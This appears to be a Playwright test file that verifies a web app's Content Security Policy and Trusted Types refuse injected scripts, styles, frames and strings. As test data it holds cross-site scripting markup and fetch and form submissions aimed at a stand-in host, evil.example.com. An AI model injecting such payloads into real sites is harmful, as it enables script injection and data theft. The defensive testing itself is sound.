import { watchPolicy } from '../support/policy-watch.ts';
import { expect, openHydrated, test } from '../support/test.ts';

declare global {
  // What an attack sets if it succeeds.
  var taken: string | undefined;
}

/** Markup that an attacker would inject into a page, and the directive that refuses it. */
const MARKUP: Readonly<Record<string, string>> = {
  '<script>taken = "inline script"</script>': 'script-src-elem',
  '<script src="https://evil.example.com/x.js"></script>': 'script-src-elem',
  '<img src="/nothing.png" alt="" onerror="taken = 1">': 'script-src-attr',
  '<style>h1 { visibility: hidden }</style>': 'style-src-elem',
  '<link rel="stylesheet" href="https://evil.example.com/x.css">': 'style-src-elem',
  '<p style="position: fixed">x</p>': 'style-src-attr',
  '<iframe src="https://evil.example.com/"></iframe>': 'frame-src',
  '<object data="https://evil.example.com/"></object>': 'object-src',
  '<base href="https://evil.example.com/">': 'base-uri',
  '<img src="https://evil.example.com/pixel" alt="">': 'img-src',
};

test('markup that was put into a page is refused', async ({ page }) => {
  const refused = await watchPolicy(page.context());
  await page.route('/imprint', async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace('</body>', `${Object.keys(MARKUP).join('')}</body>`);
    await route.fulfill({ response, body: html });
  });
  await openHydrated(page, '/imprint');
  await expect.poll(() => new Set(refused.map(directiveOf))).toEqual(new Set(Object.values(MARKUP)));
  expect(await page.evaluate(() => globalThis.taken)).toBeUndefined();
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
});

/** Attempts of a script that was given a hostile string, and the directive that refuses each. */
const STRINGS: Readonly<Record<string, [directive: string, attempt: () => void]>> = {
  'a string becomes elements': [
    'require-trusted-types-for',
    () => void (document.body.innerHTML = '<b>x</b>'),
  ],
  'a script of this host that is no package': [
    'require-trusted-types-for',
    () => void (document.createElement('script').src = '/packages/../upload.js'),
  ],
  'another policy for strings': [
    'trusted-types',
    () => {
      type Factory = { createPolicy: (name: string, rules: object) => unknown };
      (window as unknown as { trustedTypes: Factory }).trustedTypes.createPolicy('mine', {});
    },
  ],
  // Delayed, because the policy allows what the test itself evaluates.
  'text is evaluated': [
    'require-trusted-types-for',
    // oxlint-disable-next-line no-eval -- it is what must not work
    () => void setTimeout(() => eval('taken = "text"'), 0),
  ],
  'data is sent to another host': [
    'connect-src',
    () => void fetch('https://evil.example.com/').catch(() => {}),
  ],
  'a form is sent to another host': [
    'form-action',
    () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example.com/';
      document.body.append(form);
      form.submit();
    },
  ],
};

test('a string becomes neither code nor markup, and leaves for no other host', async ({ page }) => {
  const refused = await watchPolicy(page.context());
  await openHydrated(page, '/imprint');
  for (const [name, [directive, attempt]] of Object.entries(STRINGS)) {
    refused.length = 0;
    await page.evaluate(attempt).catch(() => {});
    await expect.poll(() => refused.map(directiveOf), name).toContain(directive);
  }
  expect(await page.evaluate(() => globalThis.taken)).toBeUndefined();
});

const directiveOf = (line: string): string => line.split(':')[0] ?? '';
